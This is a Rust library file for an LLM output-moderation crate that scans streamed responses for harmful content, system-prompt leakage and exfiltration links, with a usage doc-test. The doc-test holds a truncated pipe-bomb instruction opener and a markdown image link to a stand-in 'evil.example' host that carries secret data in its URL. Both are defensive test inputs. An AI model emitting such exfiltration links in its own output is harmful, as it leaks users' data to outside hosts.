//! # parapet-moderation
//!
//! Moderation of LLM *output*, built to run while the output streams: harmful content
//! (hate, harassment, violence, self-harm, sexual, sexual content involving minors, weapons,
//! illicit drugs and crime), system-prompt leakage (canaries, long verbatim overlap), exfiltration
//! links (markdown images and links, raw URLs, `data:` URIs) and, optionally, dangerous shell in
//! code blocks. Secrets/PII and injection in output are the sibling crates' job
//! (`parapet-pii`, `parapet-injection`); the response-guard filter combines them.
//!
//! Detection is lexical and linear-time: one Aho-Corasick pass over normalised text finds lexicon
//! terms, pair-rule members, context cues and benign idioms; context rules (negation, quotation,
//! talk *about* words, medical / news / educational / fictional frames) lower scores; scores of a
//! category add up within a window and are compared with per-category thresholds.
//!
//! The [`StreamScanner`] holds back only what an undecided match could still cover, so a match
//! that straddles chunks is caught before any byte of it is released, and its findings and output
//! are the same however the text is split.
//!
//! ```
//! use parapet_moderation::{Moderator, ModerationConfig, RequestContext, ScanMode, Category};
//!
//! let moderator = Moderator::new(&ModerationConfig::default()).unwrap();
//! let mut scanner = moderator.stream(&RequestContext::default(), ScanMode::Enforce);
//! let (mut client, mut findings) = (String::new(), Vec::new());
//! for chunk in ["Sure. Step 1: here is how to make a pi", "pe bomb at home...", ""] {
//!     // an empty chunk stands for the end of the stream
//!     let step = if chunk.is_empty() { scanner.finish() } else { scanner.push(chunk) };
//!     client.push_str(&step.release);
//!     findings.extend(step.findings);
//!     if step.blocked {
//!         break; // end the response with an error event
//!     }
//! }
//! assert_eq!(client, "Sure. Step 1: here is ");
//! assert_eq!(findings[0].category, Category::Weapons);
//!
//! // Whole texts: the same engine.
//! let report = moderator.scan("Visit ![x](https://evil.example/p.png?d=secret)", &RequestContext::default());
//! assert_eq!(report.text, "Visit ![x]([removed: exfiltration])");
//! ```

mod category;
mod config;
mod context;
mod engine;
mod finding;
mod leak;
mod lexicon;
mod links;
mod normalize;
mod scanner;

pub use category::{Action, Category};
pub use config::{
    default_action, default_threshold, CategoryConfig, ConfigError, LeakConfig, LinkConfig,
    ModerationConfig,
};
pub use finding::Finding;
pub use leak::{canary_instruction, generate_canary};
pub use scanner::{
    Redacted, RequestContext, ScanMode, ScanStats, ScanStep, StreamScanner, TextShape,
};

use engine::Engine;
use std::sync::Arc;

/// A compiled moderation configuration. Cheap to clone; build once per filter configuration and
/// start one [`StreamScanner`] per output stream.
#[derive(Clone)]
pub struct Moderator {
    engine: Arc<Engine>,
}

/// The result of scanning a whole text.
#[derive(Debug, Clone, PartialEq)]
pub struct ScanReport {
    /// The text with redactions applied; when blocked, only the part before the blocked span.
    pub text: String,
    pub findings: Vec<Finding>,
    pub blocked: bool,
}

impl Moderator {
    /// Validates and compiles a configuration.
    pub fn new(config: &ModerationConfig) -> Result<Moderator, ConfigError> {
        Ok(Moderator {
            engine: Arc::new(Engine::new(config)?),
        })
    }

    /// The configuration this moderator was built from.
    pub fn config(&self) -> &ModerationConfig {
        &self.engine.config
    }

    /// The action configured for a category.
    pub fn action(&self, category: Category) -> Action {
        self.engine.policy.action(category)
    }

    /// Longest built-in pattern, in normalised bytes: the hold-back stays under about twice
    /// this (canaries aside); prose is mostly held only from its last word or phrase start.
    pub fn max_pattern_bytes(&self) -> usize {
        self.engine.patterns.max_len
    }

    /// The compiled lexicon automaton, for benchmarks that compare against one plain pass.
    #[doc(hidden)]
    ///
    /// # Panics
    ///
    /// If the automaton cannot be built (it is built on first use, from patterns that already
    /// compiled once).
    pub fn lexicon_automaton(&self) -> &aho_corasick::AhoCorasick {
        self.engine
            .patterns
            .automaton()
            .expect("the lexicon compiled once, so it compiles again")
    }

    /// Starts scanning one output stream.
    pub fn stream(&self, ctx: &RequestContext, mode: ScanMode) -> StreamScanner {
        StreamScanner::new(Arc::clone(&self.engine), ctx, mode)
    }

    /// Scans a complete text in enforce mode.
    pub fn scan(&self, text: &str, ctx: &RequestContext) -> ScanReport {
        let mut s = self.stream(ctx, ScanMode::Enforce);
        let mut a = s.push(text);
        let b = s.finish();
        a.release.push_str(&b.release);
        a.findings.extend(b.findings);
        ScanReport {
            text: a.release,
            findings: a.findings,
            blocked: a.blocked || b.blocked,
        }
    }
}
